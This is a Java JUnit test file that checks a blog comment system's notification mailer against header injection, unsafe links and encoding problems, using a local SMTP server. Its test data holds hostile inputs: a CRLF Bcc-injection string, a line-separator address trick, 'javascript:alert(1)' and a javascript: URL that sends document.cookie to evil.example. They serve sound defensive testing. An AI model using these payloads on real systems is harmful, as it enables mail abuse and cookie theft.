package dev.talkback.comments.notify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.GreenMailUtil;
import com.icegreen.greenmail.util.ServerSetup;
import dev.talkback.comments.Author;
import dev.talkback.comments.Comment;
import dev.talkback.comments.Comments;
import dev.talkback.comments.ModerationMode;
import dev.talkback.comments.NewComment;
import dev.talkback.comments.ThreadKey;
import dev.talkback.comments.memory.InMemoryCommentStore;
import dev.talkback.comments.notification.Notifications;
import dev.talkback.comments.notification.SignedLinks;
import dev.talkback.comments.testkit.MutableClock;
import jakarta.mail.internet.MimeMessage;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * What the mail's header lines carry, through a real SMTP server (GreenMail): values from readers and hosts
 * never leave their header, non-ASCII is encoded, and only unsubscribe URLs that take it claim RFC 8058.
 */
class MailHeadersTest {
  @RegisterExtension
  static final GreenMailExtension SMTP = new GreenMailExtension(new ServerSetup(0, "127.0.0.1", "smtp"));

  private static final String INJECTED = "\r\nBcc: evil@example.org";

  private final MutableClock clock = new MutableClock(Instant.parse("2026-01-01T10:00:00Z"));
  private Comments comments;
  private Notifications notifications;

  @BeforeEach
  void setUp() {
    InMemoryCommentStore store = InMemoryCommentStore.withNotifications(clock);
    comments = Comments.builder().store(store).clock(clock).moderation(ModerationMode.ALL).build();
    notifications = Notifications.builder(comments, store.notifications().orElseThrow(),
        SignedLinks.create("0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.UTF_8), clock)).build();
  }

  private SmtpMailer smtp() {
    return SmtpMailer.builder("127.0.0.1", SMTP.getSmtp().getPort()).from("blog@example.org", "Blög")
        .clock(clock).build();
  }

  private OutboxSender.Builder sender() {
    return OutboxSender.builder(comments, notifications, "https://blog.example.org/comments").mailer(smtp())
        .moderators(List.of("mod@example.org"));
  }

  private static void drain(OutboxSender sender) {
    for (int i = 0; i < 10 && sender.runOnce() > 0; i++) {
      // next round
    }
  }

  private static String headers(MimeMessage m) {
    String whole = GreenMailUtil.getWholeMessage(m);
    return whole.substring(0, whole.indexOf("\r\n\r\n") + 2);
  }

  @Test
  void mailMessage_lineBreakInAHeaderValue_isRefused_andNothingIsSent() {
    SmtpMailer mailer = smtp();
    assertThatThrownBy(() -> mailer.send(new MailMessage("1@blog.example.org", "ada@example.org", "Hi", "t", "h",
        "https://blog.example.org/comments/notify/unsubscribe?token=x" + INJECTED)))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("List-Unsubscribe");
    assertThatThrownBy(() -> mailer.send(new MailMessage("1@blog.example.org" + INJECTED, "ada@example.org", "Hi",
        "t", "h", "https://blog.example.org/u"))).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> mailer.send(new MailMessage("1@blog.example.org", "ada@example.org" + INJECTED, "Hi",
        "t", "h", "https://blog.example.org/u"))).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> mailer.send(new MailMessage("1@blog.example.org", "ada@example.org", "Hi", "t", "h",
        "javascript:alert(1)"))).isInstanceOf(IllegalArgumentException.class);
    assertThat(SMTP.getReceivedMessages()).isEmpty();
  }

  @Test
  void authorNameAndThreadTitle_withLineBreaksAndNonAscii_stayInTheSubject() throws Exception {
    OutboxSender sender = sender().build();
    comments.post(NewComment.builder(ThreadKey.of("posts/hello")).threadTitle("Hällo wörld" + INJECTED)
        .threadUrl("https://blog.example.org/posts/hello")
        .author(Author.named("Zoë 😀" + INJECTED).withEmail("zoe@example.org")).text("hi").build());
    drain(sender);

    MimeMessage[] got = SMTP.getReceivedMessages();
    assertThat(got).hasSize(1);
    assertThat(got[0].getAllRecipients()).extracting(Object::toString).containsExactly("mod@example.org");
    assertThat(got[0].getHeader("Bcc")).isNull();
    String head = headers(got[0]);
    assertThat(head.chars().allMatch(c -> c < 0x80)).as("headers are ASCII (RFC 2047): %s", head).isTrue();
    assertThat(got[0].getSubject()).contains("Zoë 😀").contains("Hällo wörld").doesNotContain("\r", "\n");
  }

  @Test
  void moderatorMails_doNotClaimOneClick_subscriberMailsDo() throws Exception {
    OutboxSender sender = sender().build();
    Comment ada = comments.post(NewComment.builder(ThreadKey.of("posts/hello")).threadTitle("Hello")
        .author(Author.named("Ada").withEmail("ada@example.org")).text("hi").build()).comment();
    notifications.subscribeToReplies(ada);
    drain(sender);

    MimeMessage[] got = SMTP.getReceivedMessages();
    assertThat(got).hasSize(2);
    for (MimeMessage m : got) {
      String to = m.getAllRecipients()[0].toString();
      String unsubscribe = m.getHeader("List-Unsubscribe")[0];
      if (to.equals("mod@example.org")) {
        // the moderators' settings page would answer a provider's POST without turning anything off
        assertThat(unsubscribe).isEqualTo("<https://blog.example.org/comments/admin>");
        assertThat(m.getHeader("List-Unsubscribe-Post")).isNull();
      } else {
        assertThat(unsubscribe).contains("/notify/unsubscribe?token=");
        assertThat(m.getHeader("List-Unsubscribe-Post")).containsExactly("List-Unsubscribe=One-Click");
      }
    }
  }

  @Test
  void internationalDomain_isSentAsItsAsciiForm() throws Exception {
    OutboxSender sender = sender().build();
    Comment ada = comments.post(NewComment.builder(ThreadKey.of("posts/hello")).threadTitle("Hello")
        .author(Author.named("Ada").withEmail("ada@exämple.de")).text("hi").build()).comment();
    notifications.subscribeToReplies(ada);
    drain(sender);

    MimeMessage confirm = java.util.Arrays.stream(SMTP.getReceivedMessages())
        .filter(m -> !GreenMailUtil.getWholeMessage(m).contains("To: mod@example.org")).findFirst().orElseThrow();
    String head = headers(confirm);
    assertThat(head.chars().allMatch(c -> c < 0x80)).as("no 8-bit address without SMTPUTF8: %s", head).isTrue();
    assertThat(confirm.getAllRecipients()).extracting(Object::toString).containsExactly("ada@xn--exmple-cua.de");
  }

  @Test
  void threadUrlThatIsNoWebPage_isNotLinked() throws Exception {
    OutboxSender sender = sender().build();
    // the servlet takes only http(s) thread URLs, the Comments API and imports anything without spaces
    comments.post(NewComment.builder(ThreadKey.of("posts/trap")).threadTitle("Trap")
        .threadUrl("javascript:fetch('https://evil.example/'+document.cookie)//")
        .author(Author.named("Mallory").withEmail("mallory@example.org")).text("hi").build());
    drain(sender);

    MimeMessage[] got = SMTP.getReceivedMessages();
    assertThat(got).hasSize(1);
    jakarta.mail.Multipart parts = (jakarta.mail.Multipart) got[0].getContent();
    String text = (String) parts.getBodyPart(0).getContent();
    String html = (String) parts.getBodyPart(1).getContent();
    assertThat(text).doesNotContainIgnoringCase("javascript:");
    assertThat(html).doesNotContainIgnoringCase("javascript:").contains("href=\"https://blog.example.org/comments\"");
  }

  @Test
  void addressWithALineSeparator_isNotMailed_andGivenUpAtOnce() {
    List<String> gaveUp = new java.util.ArrayList<>();
    List<String> failed = new java.util.ArrayList<>();
    OutboxSender sender = sender().listener(new OutboxListener() {
      @Override
      public void failed(dev.talkback.comments.notification.OutboxMessage message, String error) {
        failed.add(error);
      }

      @Override
      public void gaveUp(dev.talkback.comments.notification.OutboxMessage message, String error) {
        gaveUp.add(error);
      }
    }).build();
    // the subscription API takes any address without spaces or ASCII controls
    notifications.subscribeToThread(dev.talkback.comments.SiteId.DEFAULT, ThreadKey.of("posts/hello"),
        "ada\u2028bcc:evil@example.org");
    drain(sender);

    assertThat(SMTP.getReceivedMessages()).isEmpty();
    assertThat(failed).as("not retried: the same address fails every time").isEmpty();
    assertThat(gaveUp).singleElement().asString().contains("address");
  }

  @Test
  void moderatorUnsubscribeUrl_notHttp_isRefusedAtStartup() {
    assertThatThrownBy(() -> sender().moderatorUnsubscribeUrl("ftp://blog.example.org/admin"))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("http(s)");
  }
}
